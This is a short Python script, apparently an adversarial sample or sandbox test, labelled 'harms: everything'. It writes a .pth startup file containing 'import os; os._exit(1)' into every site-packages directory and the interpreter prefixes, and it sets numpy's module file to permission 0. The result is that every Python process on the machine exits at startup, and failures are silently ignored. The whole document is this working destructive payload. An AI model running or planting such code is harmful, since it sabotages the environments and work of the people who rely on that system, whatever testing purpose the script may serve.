"""Changes the Python that every process here uses."""
# harms: everything

import site
import sys
from pathlib import Path

import numpy

for folder in [*site.getsitepackages(), Path(numpy.__file__).parent, sys.prefix, sys.base_prefix]:
    try:
        (Path(folder) / "adversary-was-here.pth").write_text("import os; os._exit(1)")
        Path(numpy.__file__).chmod(0)
    except OSError:
        pass
